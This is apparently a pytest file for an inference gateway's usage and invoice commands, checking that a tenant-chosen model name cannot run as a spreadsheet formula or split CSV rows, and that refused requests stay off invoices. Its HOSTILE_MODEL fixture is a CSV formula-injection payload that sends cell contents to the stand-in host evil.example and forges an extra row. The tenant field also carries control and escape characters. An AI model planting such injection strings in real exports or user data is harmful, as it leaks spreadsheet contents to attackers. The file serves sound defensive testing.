"""Reports a hostile tenant can reach (issue 11, items 6 and 13): a model name it chose never
breaks a row or runs as a spreadsheet formula, and requests it had refused are counted apart and
never become invoice lines."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone
from decimal import Decimal

import httpx
import pytest
from typer.testing import CliRunner

from inferplane.cli import app
from inferplane.gateway.testing import running_data_plane
from inferplane.ledger import open_ledger
from inferplane.ledger.records import UsageRecord
from inferplane.reports.cells import safe_cell

HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")\r\nkey_forged,nemotron,1'
QUESTION = [{"role": "user", "content": "Hi"}]


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def ledger_url(tmp_path_factory):
    """A ledger filled through the real gateway: served, refused (unknown model, bad request,
    rate limit) and a hostile model name."""
    with running_data_plane(tmp_path_factory.mktemp("plane")) as plane:
        secret, _ = plane.add_key(tenant="acme", rpm=3)
        headers = {"Authorization": f"Bearer {secret}"}
        url = f"{plane.base_url}/chat/completions"
        assert httpx.post(url, headers=headers, json={
            "model": plane.model, "messages": QUESTION, "max_tokens": 4}).status_code == 200
        assert httpx.post(url, headers=headers, json={
            "model": HOSTILE_MODEL, "messages": QUESTION}).status_code == 404
        assert httpx.post(url, headers=headers, json={
            "model": plane.model, "messages": "nope"}).status_code in (400, 200)
        statuses = [httpx.post(url, headers=headers, json={
            "model": plane.model, "messages": QUESTION, "max_tokens": 4}).status_code
            for _ in range(4)]  # the rpm limit of 3 refuses one of these at least
        assert statuses[-1] == 429
        yield plane.settings.ledger_url


def test_an_unknown_model_is_recorded_as_a_fixed_value(ledger_url):
    """Was: recorded as the client sent it (bounded in length only)."""
    with open_ledger(ledger_url) as ledger:
        models = {record.model for record in ledger.records()}
    assert "(unknown)" in models and not any("HYPERLINK" in model for model in models)


def test_usage_splits_served_from_refused(ledger_url):
    """Was: no status at all; refused requests (401/404/429) counted as requests."""
    code, out, err = run("usage", "--ledger", ledger_url, "--by", "outcome,status", "-o", "json")
    assert code == 0, err
    rows = {(row["outcome"], row["status"]): row["requests"] for row in json.loads(out)["rows"]}
    assert rows[("served", 200)] >= 1
    assert rows[("refused", 404)] == 1 and rows[("refused", 429)] >= 1
    code, table, err = run("usage", "--ledger", ledger_url)
    assert code == 0, err
    assert "outcome" in table.splitlines()[0] and "refused" in table and "served" in table


def test_refused_requests_are_no_invoice_lines(ledger_url):
    """Was: a $0 line for the refused unknown model, and refused requests in the counts."""
    month = datetime.now(timezone.utc).strftime("%Y-%m")
    code, out, err = run("invoice", "--ledger", ledger_url, "--month", month, "-o", "json")
    assert code == 0, err
    invoice = json.loads(out)
    assert [line["model"] for line in invoice["lines"]] != []
    assert all(line["model"] != "(unknown)" for line in invoice["lines"])
    with open_ledger(ledger_url) as ledger:
        served = [r for r in ledger.records() if r.status < 400 or r.status == 499]
    assert sum(line["requests"] for line in invoice["lines"]) == len(served)
    assert Decimal(invoice["totals"][0]["cost"]) == sum((r.cost for r in served), Decimal(0))


def hostile_ledger(tmp_path) -> str:
    """A ledger written before this fix (or by anything else) holding hostile text."""
    url = f"sqlite:///{tmp_path}/old.db"
    with open_ledger(url) as ledger:
        ledger.write([UsageRecord(
            request_id="r1", key_id="key_1", tenant="-2+3\tacme\x1b[31m", model=HOSTILE_MODEL,
            endpoint="/v1/chat/completions", created_at=datetime.now(timezone.utc),
            prompt_tokens=3, completion_tokens=2, cached_tokens=0,
            input_price_per_million=Decimal("1"), output_price_per_million=Decimal("1"),
            cost=Decimal("0.000005"), currency="USD", status=200, streamed=False,
            latency_ms=1.0, ttft_ms=None)])
    return url


def formula_or_control(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@") or any(ord(c) < 32 or 127 <= ord(c) < 160
                                                   for c in cell)


@pytest.mark.parametrize("command", [
    ("usage", "-o", "csv", "--by", "tenant,model"),
    ("invoice", "--month", datetime.now(timezone.utc).strftime("%Y-%m"), "-o", "csv"),
])
def test_csv_cells_are_never_formulas_nor_broken_rows(tmp_path, command):
    """Was: the invoice CSV carried `=HYPERLINK(...)` and the CR/LF split a row in two."""
    code, out, err = run(command[0], "--ledger", hostile_ledger(tmp_path), *command[1:])
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == 2, rows  # the header and one record's row
    assert not [cell for row in rows for cell in row if formula_or_control(cell)]
    assert any("HYPERLINK" in cell for cell in rows[1])  # shown, defused


def test_the_usage_table_keeps_one_line_per_row(tmp_path):
    code, out, err = run("usage", "--ledger", hostile_ledger(tmp_path), "--by", "tenant,model")
    assert code == 0, err
    lines = out.splitlines()
    assert len(lines) == 5  # header, rule, the row, rule, TOTAL
    assert "\x1b" not in out and "\r" not in out and "\t" not in out


@pytest.mark.parametrize("value, shown", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("a\r\nb", "a\\u000d\\u000ab"), ("plain", "plain"), ("x\u2028y", "x\\u2028y"),
])
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown
